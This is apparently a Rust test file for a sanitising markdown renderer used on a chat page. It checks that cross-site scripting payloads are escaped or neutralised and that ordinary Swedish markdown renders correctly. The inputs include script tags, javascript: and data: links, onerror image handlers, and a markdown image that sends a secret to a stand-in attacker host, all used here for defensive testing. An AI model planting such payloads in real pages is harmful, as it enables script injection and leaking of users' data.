//! [`crate::render`] on the attacks and the ordinary answers the page will see.

use crate::{audit, render};

/// Renders `markdown`, checks the output with [`audit`] and returns it.
fn safe(markdown: &str) -> String {
    let html = render(markdown);
    if let Err(finding) = audit(&html) {
        panic!("{finding} in {html:?} (from {markdown:?})");
    }
    html
}

#[test]
fn a_script_tag_is_shown_as_text() {
    let html = safe("<script>alert(1)</script>");
    assert!(!html.to_ascii_lowercase().contains("<script"), "{html}");
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{html}"
    );
    let inline = safe("Se här: <script>alert(1)</script> slut");
    assert!(inline.contains("&lt;script&gt;"), "{inline}");
}

#[test]
fn a_javascript_link_is_inert() {
    let html = safe("[x](javascript:alert(1))");
    assert!(!html.contains("javascript"), "{html}");
    assert!(!html.contains("href"), "{html}");
    assert!(html.contains(">x</a>"), "the text stays: {html}");
}

#[test]
fn a_javascript_link_in_mixed_case_or_raw_html_is_inert() {
    let html = safe("[x](JaVaScRiPt:alert(1))");
    assert!(!html.to_ascii_lowercase().contains("javascript"), "{html}");
    let raw = safe("<a href=\"JaVaScRiPt:alert(1)\">klicka</a>");
    assert!(!raw.contains("<a"), "raw HTML is text, not a link: {raw}");
    assert!(
        raw.contains("&lt;a href=\"JaVaScRiPt:alert(1)\"&gt;klicka&lt;/a&gt;"),
        "{raw}"
    );
    let spaced = safe("[x](java\tscript:alert(1))");
    assert!(!spaced.contains("href"), "{spaced}");
}

#[test]
fn an_image_with_an_error_handler_is_text() {
    let html = safe("<img src=x onerror=alert(1)>");
    assert!(!html.contains("<img"), "{html}");
    assert!(
        html.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "{html}"
    );
}

#[test]
fn data_and_vbscript_links_are_inert() {
    for markdown in [
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<data:text/html,<script>alert(1)</script>>",
        "[x](vbscript:msgbox(1))",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
    ] {
        let html = safe(markdown);
        assert!(!html.contains("href"), "{markdown}: {html}");
    }
}

#[test]
fn ordinary_links_keep_their_url_and_get_rel() {
    let html =
        safe("Läs [mer](https://example.se/a?b=1&c=2 \"titel\") eller <mailto:anna@example.se>.");
    assert!(
        html.contains(
            "<a href=\"https://example.se/a?b=1&amp;c=2\" rel=\"noopener noreferrer nofollow\">mer</a>"
        ),
        "{html}"
    );
    assert!(html.contains("href=\"mailto:anna@example.se\""), "{html}");
    let titled = safe("[a](https://example.se \"<script>alert(1)</script>\")");
    assert!(
        !titled.contains("<script") && !titled.contains("title"),
        "{titled}"
    );
    let relative = safe("[hem](/api/chat) [del](#a)");
    assert!(
        !relative.contains("href"),
        "relative links are dropped: {relative}"
    );
}

#[test]
fn images_become_links_to_follow_not_fetches() {
    let html = safe("![en katt](https://example.se/katt.png)");
    assert!(!html.contains("<img"), "{html}");
    assert!(
        html.contains("<a href=\"https://example.se/katt.png\" rel=\"noopener noreferrer nofollow\">en katt</a>"),
        "{html}"
    );
    let exfiltration = safe("![](https://evil.example/?q=hemligt)");
    assert!(!exfiltration.contains("<img"), "{exfiltration}");
}

#[test]
fn a_code_fence_keeps_its_language_and_escapes_its_text() {
    let html = safe("```rust\nif a < b && c > d { \"<script>\" }\n```");
    assert_eq!(
        html,
        "<pre><code class=\"language-rust\">if a &lt; b &amp;&amp; c &gt; d { \"&lt;script&gt;\" }\n</code></pre>\n"
    );
    let hostile = safe("```\"><script>alert(1)</script>\nx\n```");
    assert!(hostile.starts_with("<pre><code>"), "{hostile}");
    let inline = safe("`<b>` och `a<b`");
    assert!(inline.contains("<code>&lt;b&gt;</code>"), "{inline}");
}

#[test]
fn a_table_is_a_table_without_styles() {
    let html =
        safe("| Stad | Invånare |\n|:-----|---------:|\n| Umeå | 130 000 |\n| Malmö | 360 000 |");
    for tag in [
        "<table>",
        "<thead>",
        "<tr>",
        "<th>Stad</th>",
        "<tbody>",
        "<td>Umeå</td>",
        "<td>130 000</td>",
    ] {
        assert!(html.contains(tag), "{tag} in {html}");
    }
    assert!(!html.contains("style"), "{html}");
}

#[test]
fn nested_lists_and_task_lists_keep_their_shape() {
    let html = safe("1. ett\n   - a\n   - b\n     1. djupt\n2. två\n\n- [x] klart\n- [ ] kvar");
    assert_eq!(html.matches("<ol>").count(), 2, "{html}");
    assert_eq!(html.matches("<ul>").count(), 2, "{html}");
    assert!(html.contains("<li>djupt</li>"), "{html}");
    assert!(html.contains("<li>☑ klart</li>"), "{html}");
    assert!(html.contains("<li>☐ kvar</li>"), "{html}");
    assert!(!html.contains("<input"), "{html}");
    let started = safe("3. tre\n4. fyra");
    assert!(started.contains("<ol start=\"3\">"), "{started}");
}

#[test]
fn swedish_text_is_unchanged() {
    let text = "Vår förälder åt räksmörgås på ön i Älvsbyn. ÅÄÖ åäö é ü – ”citat” «så»";
    assert_eq!(safe(text), format!("<p>{text}</p>\n"));
    let emphasis = safe("**Göteborg** och ~~Örebro~~ _Åre_");
    assert_eq!(
        emphasis,
        "<p><strong>Göteborg</strong> och <del>Örebro</del> <em>Åre</em></p>\n"
    );
}

#[test]
fn headings_quotes_and_rules_render() {
    let html = safe("# Rubrik\n\n> citat\n\n---\n\nrad ett  \nrad två");
    for part in ["<h1>Rubrik</h1>", "<blockquote>", "<hr>", "<br>"] {
        assert!(html.contains(part), "{part} in {html}");
    }
}

#[test]
fn any_text_renders_safely() {
    for markdown in [
        "",
        "<",
        "<!-- kommentar -->",
        "<style>p{color:red}</style>",
        "<iframe src=\"https://example.se\"></iframe>",
        "<form action=x><input name=y></form>",
        "<p style=\"x\" onclick=\"y\">z</p>",
        "[a](<javascript:alert(1)>)",
        "[a]: javascript:alert(1)\n\n[a]",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "\u{0}\u{feff}",
    ] {
        let html = safe(markdown);
        assert!(!html.contains("<style"), "{html}");
        assert!(!html.contains("<iframe"), "{html}");
    }
}
